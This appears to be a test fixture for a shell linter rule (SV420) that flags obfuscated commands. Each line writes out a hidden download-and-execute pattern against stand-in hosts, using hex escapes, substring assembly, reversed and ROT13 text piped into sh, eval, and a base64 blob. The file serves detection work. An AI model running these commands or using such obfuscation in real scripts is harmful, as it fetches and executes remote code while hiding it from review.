#!/bin/bash
$'\x63\x75\x72\x6c' -s https://cdn.example.net/p -o /tmp/p # want "SV420: .*curl is written as ANSI-C escapes"
a="lruc_xhs"; ${a:3:1}${a:2:1}${a:1:1}${a:0:1} -s https://cdn.example.net/q # want "SV420: .*curl is assembled from substrings"
echo 'hs | 4.3.2.1//:ptth lruc' | rev | bash # want "SV420: reversed text is piped into bash"
echo 'phey -f uggcf://k.rknzcyr/c | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh # want "SV420: .*tr.*piped into sh"
printf '\x63\x75\x72\x6c\x20\x78' | sh # want "SV420: printf prints escaped text"
a=curlxx; eval "${a:0:4} -s https://cdn.example.net/r | sh" # want "SV420: eval runs a string assembled from escapes or substrings"
P="eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHh4eHg=" # want "SV420: long base64 blob"
